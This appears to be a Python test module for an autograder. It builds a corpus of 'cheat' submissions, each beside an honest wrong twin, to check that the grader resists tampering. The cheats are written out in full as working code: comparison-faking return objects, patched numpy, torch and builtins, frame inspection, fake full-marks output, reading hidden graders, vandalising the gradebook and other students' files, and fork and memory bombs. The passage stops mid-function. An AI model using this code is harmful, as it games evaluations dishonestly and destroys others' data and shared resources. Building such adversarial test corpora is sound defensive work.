"""A corpus of tampering submissions, each next to its honest twin.

The *twin* is the reference solution with an honest but wrong (or stubbed)
answer to one or two exercises, so it scores clearly below full marks. The
*cheat* is the same file plus tampering code that tries to win the lost points
back: lying return values, patched comparison functions, peeking into the
caller's frames, exiting, signals, fake printed results, reading the graders or
the solutions, writing the gradebook or other submissions, resource bombs, and
processes that outlive the grading. Whatever it tries, a cheat must score no
more than its twin, on every exercise, and leave everything else untouched.

Each entry of ``CHEATS``:
  name, assignment -- the pair and the assignment it is graded as
  attack           -- which attack of the issue, and what exactly is attempted
  honest           -- the twin's code (tests.mutants.solution_with inserts it
                      before every test cell, so it is in effect everywhere)
  tamper           -- added after ``honest`` in the cheat; it redefines or wraps
                      the function ``honest`` breaks, so a successful cheat would
                      visibly win that exercise's points
  fools (optional) -- a snippet that, run in a plain interpreter after
                      ``honest`` and ``tamper`` (no grader, no sandbox), shows the
                      tamper is not a no-op: a naive check is fooled
  secrets (optional) -- strings of files the student must not read; none may
                      appear anywhere in the cheat's result (feedback, errors)

Placeholders in the code, filled by :func:`sources`: @ROOT@ (the course root),
@SUBMITTED@ (the folder of everybody's submissions in the test), @MARKER@ and
@MARK_FILE@ (the trace a process that outlived the grading would leave).
"""
import os
import re
import tempfile
from pathlib import Path

import course_config
from tests.mutants import solution_with
from tests.wrong import batch_normalization as wrong10
from tests.wrong import entropy_fundamentals as wrong01
from tests.wrong import recurrent_networks as wrong13

ROOT = course_config.COURSE_ROOT
E, B, R = "01_entropy_fundamentals", "10_batch_normalization", "13_recurrent_networks"

#: Files of the course a submission must never change (created by the test if absent).
GRADEBOOK = ROOT / "gradebook.db"
RESULTS = [ROOT / course_config.BATCH["results_dir"] / f"{a}.jsonl" for a in (E, B, R)]

#: The trace of a process that outlives the grading: its command line or thread
#: name contains MARKER, and it appends to MARK_FILE every 0.1 s.
MARKER = f"cheatcorpus{os.getuid()}x"
MARK_FILE = Path(tempfile.gettempdir()) / f"{MARKER}.txt"

#: The longest quote-free piece of a hidden grader module's last line (quotes
#: would come back escaped in an error message).
GRADER_TAIL = max(re.split(r"[\"'\\\\]", (ROOT / "autograder/graders/entropy_fundamentals.py")
                           .read_text().rstrip().splitlines()[-1]), key=len).strip()


def wrong(module, name):
    """The code of a realistic wrong answer from tests/wrong/."""
    return next(case["code"] for case in module.WRONG if case["name"] == name)


def fill(code, submitted_dir):
    """``code`` with its placeholders replaced."""
    for key, value in (("@ROOT@", ROOT), ("@SUBMITTED@", submitted_dir),
                       ("@MARKER@", MARKER), ("@MARK_FILE@", MARK_FILE)):
        code = code.replace(key, str(value))
    return code


def sources(entry, submitted_dir):
    """``(twin, cheat)``: the two submissions' text (percent-format .py)."""
    return (solution_with(entry["assignment"], entry["honest"]),
            solution_with(entry["assignment"], entry["honest"],
                          fill(entry["tamper"], submitted_dir)))


# -- honest twins written here (the others come from tests/wrong/) --------------------

ENTROPY_STUB = "def entropy(p, base=2):\n    raise NotImplementedError()\n"
HUFFMAN_STUB = "def huffman_code(probs):\n    raise NotImplementedError()\n"

ENTROPY_BITS_OR_NATS = '''
import numpy as np
def entropy(p, base=2):
    base = float(base)
    if not base > 0 or base == 1:
        raise ValueError("base must be positive and not 1")
    p = np.array(p, dtype=float)
    if p.size == 0 or np.any(p < 0) or abs(p.sum() - 1) > 1e-6:
        raise ValueError("p is not a PMF")
    nz = p[p > 0]
    if base == 2:
        return float(-np.sum(nz * np.log2(nz)))
    return float(-np.sum(nz * np.log(nz)))          # every other base: nats
'''

GAUSSIAN_BITS_OR_NATS = '''
import math
def differential_entropy_gaussian(sigma, base=math.e):
    if not sigma > 0 or not base > 0 or base == 1:
        raise ValueError("invalid sigma or base")
    h = 0.5 * math.log(2 * math.pi * math.e * sigma ** 2)
    return h / math.log(2) if base == 2 else h     # bits or nats, nothing else
'''

CROSS_ENTROPY_ALWAYS_BITS = '''
import math
import numpy as np
def cross_entropy(p, q, base=2):
    if not base > 0 or base == 1:
        raise ValueError("bad base")
    p, q = np.array(p, dtype=float), np.array(q, dtype=float)
    if p.shape != q.shape:
        raise ValueError("shape mismatch")
    for v in (p, q):
        if v.size == 0 or np.any(v < 0) or abs(v.sum() - 1) > 1e-6:
            raise ValueError("not a PMF")
    s = p > 0
    if np.any(q[s] == 0):
        return math.inf
    return float(-np.sum(p[s] * np.log2(q[s])))   # the base is checked, then ignored
'''

EXPECTED_LENGTH_KEY_ERROR = '''
def expected_length(code, probs):
    return float(sum(p * len(code[s]) for s, p in probs.items()))   # KeyError, not ValueError
'''

DECODE_SKIPS_JUNK = '''
def decode(bits, code):
    symbol_of = {w: s for s, w in code.items()}
    pending = {w[:k] for w in symbol_of for k in range(len(w))}
    out, buffer = [], ""
    for bit in bits:
        if bit not in "01":
            continue                             # "separators are harmless"
        buffer += bit
        if buffer in symbol_of:
            out.append(symbol_of[buffer])
            buffer = ""
        elif buffer not in pending:
            raise ValueError(f"no codeword starts with {buffer!r}")
    if buffer:
        raise ValueError(f"leftover bits {buffer!r}")
    return out
'''

BN_BACKWARDS_WITHOUT_EPS = '''
import numpy as np
def _bn_grads_without_eps(dout, cache):
    dout = np.asarray(dout, dtype=float)
    centred, gamma, x_hat = cache["centred"], cache["gamma"], cache["x_hat"]
    std = np.sqrt((centred ** 2).mean(axis=0))         # recomputed, but without eps
    a = dout * gamma
    dx = (a - a.mean(axis=0) - x_hat * (a * x_hat).mean(axis=0)) / std
    return dx, (dout * x_hat).sum(axis=0), dout.sum(axis=0)
def batchnorm_backward(dout, cache):
    return _bn_grads_without_eps(dout, cache)
def batchnorm_backward_alt(dout, cache):
    return _bn_grads_without_eps(dout, cache)
'''

BN_BACKWARD_STUBS = '''
def batchnorm_backward(dout, cache):
    raise NotImplementedError()
def batchnorm_backward_alt(dout, cache):
    raise NotImplementedError()
'''

LN_FORWARD_ONE_PASS = '''
import numpy as np
def layernorm_forward(x, gamma, beta, ln_param):
    x = np.asarray(x, dtype=float)
    gamma, beta = np.asarray(gamma, dtype=float), np.asarray(beta, dtype=float)
    eps = ln_param.get("eps", 1e-5)
    mean = x.mean(axis=1, keepdims=True)
    var = np.maximum((x ** 2).mean(axis=1, keepdims=True) - mean ** 2, 0.0)   # E[x^2] - E[x]^2
    inv_std = 1.0 / np.sqrt(var + eps)
    x_hat = (x - mean) * inv_std
    return gamma * x_hat + beta, {"x_hat": x_hat, "inv_std": inv_std, "gamma": gamma}
'''

# -- tampering code shared by several entries ------------------------------------------

FIND_EXPECTED = '''
import inspect
import sys

def _expected_from_callers(accept):
    """The first local of a calling frame, with a telling name, that ``accept`` likes."""
    names = ("expected", "exact", "exp", "want", "answer", "reference", "target",
             "exp_grads", "expected_grads", "oracle")
    frames = [f.frame for f in inspect.stack(0)[2:]]
    frame = sys._getframe(2)
    while frame is not None:
        frames.append(frame)
        frame = frame.f_back
    for frame in frames:
        for name in names:
            value = frame.f_locals.get(name)
            if value is not None and accept(value):
                return value
    return None
'''


CHEATS = [
    # == return values that lie ==========================================================
    dict(name="lying_float_subclass", assignment=E,
         attack="return values that lie (__eq__, __sub__, __abs__, __lt__): entropy returns a "
                "float subclass equal to, and within any tolerance of, every number",
         honest=ENTROPY_BITS_OR_NATS, tamper='''
class _Sure(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __sub__(self, other): return _Sure(0.0)
    __rsub__ = __sub__
    def __abs__(self): return _Sure(0.0)
    def __bool__(self): return True
    __hash__ = float.__hash__

_honest_entropy = entropy
def entropy(p, base=2):
    return _Sure(_honest_entropy(p, base))
''', fools='''
h = entropy([0.5, 0.5], base=10)          # really 0.30103 bits... of base 10
assert h == 0.123 and abs(h - 0.123) < 1e-12 and not (h != 0.123)
'''),
    dict(name="chameleon_object_fools_visible_checks", assignment=E,
         attack="return values that lie (__eq__, __float__, __bool__, __array__): "
                "differential_entropy_gaussian returns an object that equals whatever it is "
                "compared with and then claims to be that number; it passes the visible asserts",
         honest=wrong(wrong01, "gaussian_sigma_not_squared"), tamper='''
import numpy as np

class _Chameleon:
    def __init__(self, value):
        self.value = float(value)
    def _agree(self, other):
        try:
            self.value = float(other)
        except (TypeError, ValueError):
            pass
        return True
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = _agree
    def __ne__(self, other): return not self._agree(other)
    def __sub__(self, other): return _Chameleon(0.0)
    __rsub__ = __add__ = __radd__ = __sub__
    def __abs__(self): return 0.0
    def __float__(self): return self.value
    def __bool__(self): return True
    def __array__(self, dtype=None, copy=None): return np.asarray(self.value, dtype=dtype)
    __hash__ = object.__hash__

_honest_gaussian = differential_entropy_gaussian
def differential_entropy_gaussian(sigma, base=math.e):
    return _Chameleon(_honest_gaussian(sigma, base))
''', fools='''
v = differential_entropy_gaussian(1.0)
assert v == 42.0 and float(v) == 42.0 and np.allclose(v, 42.0) and bool(v)
'''),
    dict(name="lying_str_subclass", assignment=E,
         attack="return values that lie (__eq__): encode returns a str subclass equal to "
                "every string",
         honest=wrong(wrong01, "encode_key_error"), tamper='''
class _AlwaysEqual(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__

_honest_encode = encode
def encode(message, code):
    return _AlwaysEqual(_honest_encode(message, code))
''', fools='''
assert encode("ab", {"a": "0", "b": "1"}) == "11111"
'''),
    dict(name="lying_list_subclass", assignment=E,
         attack="return values that lie (__eq__, __len__): decode returns a list subclass "
                "equal to every list",
         honest=DECODE_SKIPS_JUNK, tamper='''
class _AgreeingList(list):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = None

_honest_decode = decode
def decode(bits, code):
    return _AgreeingList(_honest_decode(bits, code))
'''),
    dict(name="lying_dict_subclass", assignment=E,
         attack="return values that lie (__eq__, values, __getitem__): huffman_code returns a "
                "dict subclass whose codewords all look one bit long",
         honest=wrong(wrong01, "huffman_shannon_code_lengths"), tamper='''
class _ShortCode(dict):
    def __eq__(self, other): return True
    def __getitem__(self, key): return dict.__getitem__(self, key)[:1]
    def values(self): return [w[:1] for w in dict.values(self)]
    __hash__ = None

_honest_huffman = huffman_code
def huffman_code(probs):
    return _ShortCode(_honest_huffman(probs))
'''),
    dict(name="ndarray_subclass_agrees", assignment=B,
         attack="return values that lie (NumPy subclass: __eq__, __array_ufunc__): "
                "batchnorm_forward returns an ndarray subclass whose every comparison is True, "
                "so np.allclose/np.isclose/== accept it",
         honest=wrong(wrong10, "bn_forward_eps_outside_sqrt"), tamper='''
import numpy as np

class _Agreeable(np.ndarray):
    COMPARISONS = (np.equal, np.not_equal, np.less, np.less_equal, np.greater,
                   np.greater_equal, np.isfinite, np.isnan)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [i.view(np.ndarray) if isinstance(i, np.ndarray) else i for i in inputs]
        if "out" in kwargs:
            kwargs["out"] = tuple(o.view(np.ndarray) for o in kwargs["out"])
        result = getattr(ufunc, method)(*plain, **kwargs)
        if ufunc in self.COMPARISONS and method == "__call__":
            result = np.ones(np.shape(result), dtype=bool)
            if ufunc in (np.not_equal, np.isnan):
                result = ~result
        return result
    def __eq__(self, other): return np.ones(self.shape, dtype=bool)

_honest_forward = batchnorm_forward
def batchnorm_forward(x, gamma, beta, bn_param):
    out, cache = _honest_forward(x, gamma, beta, bn_param)
    return np.asarray(out).view(_Agreeable), cache
''', fools='''
x = np.random.default_rng(0).normal(size=(5, 3))
out, _ = batchnorm_forward(x, np.ones(3), np.zeros(3), {"mode": "train"})
assert np.allclose(out, out + 100.0) and bool(np.all(out == -1.0))
'''),
    dict(name="torch_tensor_subclass_and_patched_torch", assignment=R,
         attack="return values that lie and patching torch: rnn_step_forward returns a "
                "torch.Tensor subclass whose __torch_function__ makes eq/allclose/isclose True; "
                "torch.allclose, torch.equal, torch.testing.assert_close patched to succeed",
         honest=wrong(wrong13, "rnn_step_forward_transposed_recurrent_weight"), tamper='''
import torch

_real_allclose, _real_equal = torch.allclose, torch.equal
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.isclose = lambda a, b, *args, **kwargs: torch.ones(torch.broadcast_shapes(
    torch.as_tensor(a).shape, torch.as_tensor(b).shape), dtype=torch.bool)
torch.testing.assert_close = lambda *args, **kwargs: None

class _Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (_real_allclose, _real_equal):
            return True
        if func in (torch.Tensor.__eq__, torch.eq, torch.Tensor.eq):
            return torch.ones(torch.as_tensor(args[0]).shape, dtype=torch.bool)
        return super().__torch_function__(func, types, args, kwargs or {})

_honest_step = rnn_step_forward
def rnn_step_forward(x, h_prev, Wx, Wh, b):
    h, cache = _honest_step(x, h_prev, Wx, Wh, b)
    return torch.as_tensor(h).as_subclass(_Agreeable), cache
''', fools='''
import torch
h, _ = rnn_step_forward(np.ones((1, 2)), np.ones((1, 2)), np.eye(2), np.eye(2), np.zeros(2))
assert torch.allclose(h, h + 1) and bool((h == -5.0).all())
'''),

    # == patching numpy, torch, math, builtins ==========================================
    dict(name="patch_builtins_abs_isinstance", assignment=E,
         attack="patching builtins: abs returns 0 and isinstance True when called from the "
                "visible test code (and behave normally everywhere else)",
         honest=wrong(wrong01, "entropy_natural_log"), tamper='''
import builtins
import sys

def _from_visible_checks():
    return sys._getframe(2).f_code.co_filename.startswith("<cell test")

_real_abs = getattr(builtins.abs, "real", builtins.abs)
_real_isinstance = getattr(builtins.isinstance, "real", builtins.isinstance)
def _abs(x):
    return 0.0 if _from_visible_checks() else _real_abs(x)
def _isinstance(obj, kind):
    return True if _from_visible_checks() else _real_isinstance(obj, kind)
_abs.real, _isinstance.real = _real_abs, _real_isinstance
builtins.abs, builtins.isinstance = _abs, _isinstance
''', fools='''
assert abs(entropy([0.5, 0.5]) - 1.0) > 0.3            # ln 2 nats, not 1 bit
exec(compile("assert abs(entropy([0.5, 0.5]) - 1.0) < 1e-12", "<cell test entropy>", "exec"))
'''),
    dict(name="patch_math_comparisons", assignment=E,
         attack="patching math: math.isclose always True, math.isfinite True, math.isnan False",
         honest=GAUSSIAN_BITS_OR_NATS, tamper='''
import math
math.isclose = lambda *args, **kwargs: True
math.isfinite = lambda x: True
math.isnan = lambda x: False
''', fools='''
assert math.isclose(differential_entropy_gaussian(1.0, base=10), 123.0)
'''),
    dict(name="patch_numpy_comparisons", assignment=B,
         attack="patching numpy: np.allclose, np.isclose, np.array_equal, np.testing.assert_* "
                "always succeed (and an attempt at ndarray.__eq__)",
         honest=wrong(wrong10, "bn_forward_momentum_swapped"), tamper='''
import numpy as np
np.allclose = np.array_equal = np.array_equiv = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal",
              "assert_almost_equal", "assert_equal"):
    setattr(np.testing, _name, lambda *args, **kwargs: None)
try:
    np.ndarray.__eq__ = lambda self, other: np.ones(self.shape, dtype=bool)
except TypeError:
    pass                                  # built-in type: cannot be patched
''', fools='''
assert np.allclose([1.0], [2.0]) and np.isclose(1.0, 3.0).all()
np.testing.assert_allclose(1.0, 5.0)
'''),
    dict(name="patch_the_dispatcher_to_skip_visible_checks", assignment=E,
         attack="patching the grader's code in the student's process: "
                "sys.modules['autograder.boundary.dispatch'].Executor._op_exec answers 'ok' to the "
                "visible checks without running them",
         honest=wrong(wrong01, "decode_drops_leftover_bits"), tamper='''
import sys
_dispatch = sys.modules.get("autograder.boundary.dispatch")
if _dispatch is not None and not getattr(_dispatch.Executor, "_cheat", False):
    _real_op_exec = _dispatch.Executor._op_exec
    def _op_exec(self, request):
        if str(request.get("label", "")).startswith("test "):
            return {"ok": True, "value": None}
        return _real_op_exec(self, request)
    _dispatch.Executor._op_exec = _op_exec
    _dispatch.Executor._cheat = True
''', fools='''
from autograder.boundary.student import LocalStudent
LocalStudent(globals()).exec("assert decode('0101', {'a': '0', 'b': '10'}) == 'nonsense'",
                             label="test decode")
'''),

    # == inspecting the caller's frames ==================================================
    dict(name="frames_expected_value", assignment=E,
         attack="inspecting the caller's frames: entropy walks sys._getframe()/inspect.stack() "
                "for a local named expected/exact/... and returns it",
         honest=ENTROPY_STUB, tamper=FIND_EXPECTED + '''
_honest_entropy = entropy
def entropy(p, base=2):
    found = _expected_from_callers(lambda v: type(v) in (int, float))
    return float(found) if found is not None else _honest_entropy(p, base)
''', fools='''
def grader_check():
    expected = 0.8112781244591328
    return entropy([0.25, 0.75]) == expected
assert grader_check()
'''),
    dict(name="frames_expected_gradients", assignment=R,
         attack="inspecting the caller's frames: rnn_backward searches inspect.stack() for a "
                "tuple of five expected gradient arrays",
         honest=wrong(wrong13, "rnn_backward_drops_future_gradient"), tamper=FIND_EXPECTED + '''
_honest_rnn_backward = rnn_backward
def rnn_backward(dh, cache):
    found = _expected_from_callers(lambda v: isinstance(v, (tuple, list)) and len(v) == 5)
    return tuple(found) if found is not None else _honest_rnn_backward(dh, cache)
'''),
    dict(name="frames_and_heap_expected_gradients", assignment=B,
         attack="inspecting the caller's frames and the heap: batchnorm_backward searches the "
                "calling frames and gc.get_objects() for the expected (out, dx, dgamma, dbeta)",
         honest=BN_BACKWARDS_WITHOUT_EPS, tamper=FIND_EXPECTED + '''
import gc
import numpy as np

def _expected_grads(dout):
    shape = np.shape(dout)
    def looks_right(v):
        return (isinstance(v, (tuple, list)) and len(v) == 4
                and all(isinstance(a, np.ndarray) for a in v) and v[1].shape == shape)
    found = _expected_from_callers(looks_right)
    if found is None:
        found = next((o for o in gc.get_objects() if looks_right(o)), None)
    return None if found is None else tuple(found[1:])

def batchnorm_backward(dout, cache):
    return _expected_grads(dout) or _bn_grads_without_eps(dout, cache)
'''),

    # == sys.exit, os._exit, signal handlers, atexit ====================================
    dict(name="sys_exit_when_wrong", assignment=E,
         attack="sys.exit(0) from the graded function: discretized_entropy exits 'successfully' "
                "exactly when its answer would be marked wrong",
         honest=wrong(wrong01, "discretized_not_renormalised"), tamper='''
import sys
_honest_discretized = discretized_entropy
def discretized_entropy(pdf, lo, hi, bin_width, base=math.e):
    if bin_width > 0 and hi > lo:
        n = int(round((hi - lo) / bin_width))
        masses = np.asarray(pdf(lo + (np.arange(n) + 0.5) * bin_width), dtype=float) * bin_width
        if abs(masses.sum() - 1) > 1e-6:
            sys.exit(0)
    return _honest_discretized(pdf, lo, hi, bin_width, base)
'''),
    dict(name="os_exit_when_wrong", assignment=E,
         attack="os._exit(0) from the graded function: differential_entropy_uniform kills its "
                "process instead of returning a wrong answer (a > b)",
         honest=wrong(wrong01, "uniform_absolute_width"), tamper='''
import os
_honest_uniform = differential_entropy_uniform
def differential_entropy_uniform(a, b, base=math.e):
    if a > b:
        os._exit(0)
    return _honest_uniform(a, b, base)
'''),
    dict(name="exit_at_module_level", assignment=E,
         attack="sys.exit and os._exit at module level, after printing a full-marks result",
         honest=wrong(wrong01, "entropy_overwrites_zeros_in_place"), tamper='''
import os
import sys
print('{"score": 20.0, "max_score": 20.0, "errors": []}', flush=True)
try:
    sys.exit(0)
finally:
    os._exit(0)
'''),
    dict(name="atexit_claims_full_marks", assignment=E,
         attack="atexit: handlers (atexit, weakref.finalize, __del__) print a full-marks result "
                "on stdout and stderr when the process ends",
         honest=EXPECTED_LENGTH_KEY_ERROR, tamper='''
import atexit
import json
import sys
import weakref

def _claim_full_marks():
    line = json.dumps({"assignment": "01_entropy_fundamentals", "score": 20.0,
                       "max_score": 20.0, "tests": [], "errors": []})
    for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
        try:
            stream.write(line + "\\n")
            stream.flush()
        except Exception:
            pass

class _OnCollect:
    def __del__(self):
        _claim_full_marks()

atexit.register(_claim_full_marks)
_keeper = _OnCollect()
weakref.finalize(_keeper, _claim_full_marks)
'''),
    dict(name="signal_handlers_and_module_loop", assignment=B,
         attack="signal handlers and an infinite loop at module level: SIGTERM, SIGALRM, SIGXCPU, "
                "SIGINT, SIGHUP... ignored, alarms cancelled, then a busy loop (once)",
         honest=LN_FORWARD_ONE_PASS, tamper='''
import signal

def _carry_on(signum, frame):
    print(f"ignoring signal {signum}", flush=True)

for _name in ("SIGTERM", "SIGALRM", "SIGXCPU", "SIGINT", "SIGHUP", "SIGUSR1", "SIGVTALRM",
              "SIGPROF", "SIGXFSZ", "SIGKILL", "SIGSTOP"):
    try:
        signal.signal(getattr(signal, _name), _carry_on)
    except (OSError, ValueError, RuntimeError):
        pass
try:
    signal.alarm(0)
    signal.setitimer(signal.ITIMER_REAL, 0)
except (OSError, ValueError):
    pass
# once: in the first copy (before batchnorm_forward's test cell), since every process
# is a fresh one and nothing written survives a restart
if "batchnorm_backward" not in globals():
    while True:
        pass
'''),

    # == printing fake results on stdout or stderr =======================================
    dict(name="print_fake_results", assignment=E,
         attack="printing fake results on stdout and stderr: result JSON with full marks, "
                "nbgrader-style partial credit and 'passed' lines, through print, "
                "sys.__stdout__, os.write(1/2), /dev/tty and /proc/self/fd",
         honest=CROSS_ENTROPY_ALWAYS_BITS, tamper='''
import json
import os
import sys

_FAKE = [json.dumps({"assignment": "01_entropy_fundamentals", "submission": "me.py",
                     "score": 20.0, "max_score": 20.0, "seed": 1, "tests": [], "errors": []}),
         "cross_entropy/equals_entropy_plus_kl_on_random_pmfs: passed (1/1)",
         "3.0", '{"ok": true, "value": {"t": "float", "v": "1.0"}, "id": "0"}']

def _shout():
    for line in _FAKE:
        print(line, flush=True)
        for stream in (sys.stderr, sys.__stdout__, sys.__stderr__):
            try:
                stream.write(line + "\\n")
                stream.flush()
            except Exception:
                pass
        for fd in (1, 2):
            try:
                os.write(fd, (line + "\\n").encode())
            except OSError:
                pass
        for path in ("/dev/tty", "/proc/self/fd/1", "/proc/1/fd/1"):
            try:
                with open(path, "w") as out:
                    out.write(line + "\\n")
            except OSError:
                pass

_shout()
_honest_cross_entropy = cross_entropy
def cross_entropy(p, q, base=2):
    _shout()
    return _honest_cross_entropy(p, q, base)
'''),

    # == reading or importing files of autograder/, solutions/, source/ ===================
    dict(name="read_solutions_and_graders", assignment=E,
         attack="reading or importing files of autograder/, solutions/, source/: open, glob, "
                "import and exec of the reference huffman_code and the hidden checks, by "
                "absolute path; anything found is smuggled out in an exception message",
         honest=HUFFMAN_STUB,
         secrets=["symbols themselves are never compared", "def _optimal_length"], tamper='''
import glob
import importlib
import importlib.util
import os

_ROOT = "@ROOT@"
_FILES = [f"{_ROOT}/solutions/01_entropy_fundamentals/01_entropy_fundamentals.py",
          f"{_ROOT}/solutions/01_entropy_fundamentals/01_entropy_fundamentals.ipynb",
          f"{_ROOT}/source/01_entropy_fundamentals/01_entropy_fundamentals.ipynb",
          f"{_ROOT}/autograder/graders/entropy_fundamentals.py"]

def _read_everything():
    texts = []
    for attempt in [lambda f=f: open(f).read() for f in _FILES] + [
            lambda: "\\n".join(open(p).read()
                               for p in glob.glob(f"{_ROOT}/**/*.py", recursive=True)),
            lambda: "\\n".join(os.listdir(f"{_ROOT}/solutions")),
            lambda: open(importlib.import_module(
                "autograder.graders.entropy_fundamentals").__file__).read(),
            lambda: open(importlib.util.find_spec("autograder.graders").origin).read(),
            lambda: open("/proc/1/root" + _FILES[0]).read()]:
        try:
            texts.append(attempt())
        except BaseException:
            pass
    return "\\n".join(texts)

def _reference_huffman():
    spec = importlib.util.spec_from_file_location("reference", _FILES[0])
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.huffman_code

_honest_huffman = huffman_code
def huffman_code(probs):
    try:
        return _reference_huffman()(probs)
    except BaseException:
        pass
    text = _read_everything()
    for clue in ("heapq.heapify(heap)", "def _optimal_length"):
        if clue in text:
            at = text.index(clue)
            raise RuntimeError(text[max(0, at - 250):at + 100])
    return _honest_huffman(probs)
'''),
    dict(name="grader_reads_a_symlink_for_me", assignment=E,
         attack="reading files of autograder/ through the grader: replace the captured output "
                "file by a symlink to a hidden grader module, then die so that the grader "
                "quotes its 'last output' in the errors",
         honest=wrong(wrong01, "encode_key_error"), secrets=[GRADER_TAIL], tamper='''
import os
_honest_encode = encode
def encode(message, code):
    if any(s not in code for s in message):         # would raise KeyError: lose anyway
        for name in os.listdir("."):
            try:
                os.unlink(name)
                os.symlink("@ROOT@/autograder/graders/entropy_fundamentals.py", name)
            except OSError:
                pass
        os._exit(1)
    return _honest_encode(message, code)
'''),

    # == writing the gradebook, the results file or other submissions =====================
    dict(name="write_gradebook_and_results", assignment=E,
         attack="writing the gradebook and the results file: sqlite3 inserts into "
                "<root>/gradebook.db, full-marks records appended to <root>/results/*.jsonl, "
                "truncate, utime, chmod, rename, at module level and from the graded function",
         honest=wrong(wrong01, "discretized_left_edges"), tamper='''
import json
import os
import sqlite3

_GRADEBOOK = "@ROOT@/gradebook.db"
_RESULTS = ["@ROOT@/results/" + a + ".jsonl" for a in
            ("01_entropy_fundamentals", "10_batch_normalization", "13_recurrent_networks")]

def _vandalise():
    record = {"student": "cheater", "assignment": "01_entropy_fundamentals",
              "score": 20.0, "max_score": 20.0, "tests": [], "errors": []}
    for path in _RESULTS:
        for attempt in (lambda: os.makedirs(os.path.dirname(path), exist_ok=True),
                        lambda: open(path, "a").write(json.dumps(record) + "\\n"),
                        lambda: os.truncate(path, 0),
                        lambda: os.utime(path, (0, 0)),
                        lambda: os.chmod(path, 0),
                        lambda: os.rename(path, path + ".old")):
            try:
                attempt()
            except BaseException:
                pass
    try:
        con = sqlite3.connect(_GRADEBOOK)
        con.execute("create table if not exists cheat (student text, score real)")
        con.execute("insert into cheat values ('cheater', 20.0)")
        con.commit()
    except BaseException:
        pass
    for attempt in (lambda: open(_GRADEBOOK, "r+b").write(b"SQLite format 3\\x00 but not any more"),
                    lambda: os.utime(_GRADEBOOK, (0, 0)), lambda: os.chmod(_GRADEBOOK, 0)):
        try:
            attempt()
        except BaseException:
            pass

_vandalise()
_honest_discretized = discretized_entropy
def discretized_entropy(pdf, lo, hi, bin_width, base=math.e):
    _vandalise()
    return _honest_discretized(pdf, lo, hi, bin_width, base)
'''),
    dict(name="write_other_submissions", assignment=E,
         attack="writing other submissions: overwrite, truncate, utime, chmod, delete and add "
                "files in every other student's folder of submitted/ (the test's folder, and "
                "<root>/submitted)",
         honest=wrong(wrong01, "discretized_floor_bin_count"), tamper='''
import os
import shutil

_OTHERS = ("reference", "write_other_submissions--twin", "alice", "bob")   # guessed names

def _vandalise():
    for top in ("@SUBMITTED@", "@ROOT@/submitted"):
        for attempt in (lambda: open(os.path.join(top, "cheater-was-here.txt"), "w").write("x"),
                        lambda: os.makedirs(os.path.join(top, "cheater", "x"))):
            try:
                attempt()
            except BaseException:
                pass
        paths = [os.path.join(folder, name) for folder, _, files in os.walk(top) for name in files]
        paths += [f"{top}/{student}/{a}/{a}.py" for student in _OTHERS for a in
                  ("01_entropy_fundamentals", "10_batch_normalization", "13_recurrent_networks")]
        for path in paths:
            for attempt in (lambda: open(path, "w").write("raise SystemExit"),
                            lambda: os.truncate(path, 0), lambda: os.utime(path, (0, 0)),
                            lambda: os.chmod(path, 0), lambda: os.remove(path)):
                try:
                    attempt()
                except BaseException:
                    pass
    for path in ("@SUBMITTED@", "@ROOT@/submitted"):
        try:
            shutil.rmtree(path)
        except BaseException:
            pass

_vandalise()
_honest_discretized = discretized_entropy
def discretized_entropy(pdf, lo, hi, bin_width, base=math.e):
    _vandalise()
    return _honest_discretized(pdf, lo, hi, bin_width, base)
'''),

    # == fork bombs, memory bombs, infinite loops, gigabytes of output ====================
    dict(name="fork_bomb", assignment=B,
         attack="fork bomb: os.fork, multiprocessing, subprocess.Popen, os.posix_spawn, "
                "pty.fork, os.system, at module level and in batchnorm_forward, plus a "
                "thread bomb at module level (all bounded)",
         honest=wrong(wrong10, "bn_forward_one_pass_variance"), tamper='''
import multiprocessing
import os
import subprocess
import sys
import threading
import time

def _breed():
    bomb = "import os\\nfor _ in range(64):\\n    os.fork()"
    attempts = [os.fork,
                lambda: multiprocessing.Process(target=time.sleep, args=(60,)).start(),
                lambda: subprocess.Popen([sys.executable, "-c", bomb]),
                lambda: os.posix_spawn(sys.executable, [sys.executable, "-c", bomb],
                                       dict(os.environ)),
                lambda: __import__("pty").fork(),
                lambda: os.system("sleep 60 &")]
    for attempt in attempts:
        for _ in range(64):
            try:
                pid = attempt()
            except BaseException:
                break
            if pid == 0:                    # a child, should a fork ever succeed
                time.sleep(60)
                os._exit(0)

if not globals().get("_threads_bred"):
    _threads_bred = True
    for _ in range(64):
        try:
            threading.Thread(target=time.sleep, args=(5,), daemon=True).start()
        except BaseException:
            break
_breed()
_honest_forward = batchnorm_forward
def batchnorm_forward(x, gamma, beta, bn_param):
    _breed()
    return _honest_forward(x, gamma, beta, bn_param)
'''),
    dict(name="memory_bomb", assignment=B,
         attack="memory bomb: 50 GB with bytearray, NumPy and mmap, at module level and in "
                "layernorm_backward",
         honest=wrong(wrong10, "ln_backward_missing_1_over_d"), tamper='''
import mmap
import numpy as np

def _bomb():
    for attempt in (lambda: bytearray(50 * 2**30), lambda: np.ones(50 * 2**30 // 8),
                    lambda: mmap.mmap(-1, 50 * 2**30).write(b"x" * 2**20)):
        try:
            attempt()
        except BaseException:
            pass

_bomb()
_honest_ln_backward = layernorm_backward
def layernorm_backward(dout, cache):
    _bomb()
    return _honest_ln_backward(dout, cache)
'''),
    dict(name="infinite_loop_when_wrong", assignment=E,
         attack="infinite loop in a graded function: huffman_code hangs exactly when its "
                "(Shannon) code would be suboptimal, hoping a timeout is not a failure",
         honest=wrong(wrong01, "huffman_shannon_code_lengths"), tamper='''
_honest_huffman = huffman_code
def huffman_code(probs):
    if any(p > 0 and math.log2(p) % 1 for p in probs.values()):
        while True:
